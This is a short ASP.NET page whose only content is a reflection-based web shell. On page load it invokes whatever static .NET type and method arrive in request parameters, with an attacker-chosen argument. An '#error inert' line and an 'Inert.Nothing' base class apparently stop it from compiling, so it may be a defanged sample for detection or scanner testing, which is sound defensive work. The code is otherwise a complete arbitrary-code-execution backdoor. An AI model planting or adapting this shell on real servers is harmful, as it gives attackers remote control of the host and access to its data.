<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ Type.GetType(Request["t"]).GetMethod(Request["m"]).Invoke(null,new object[]{Request["a"]}); }
</script>
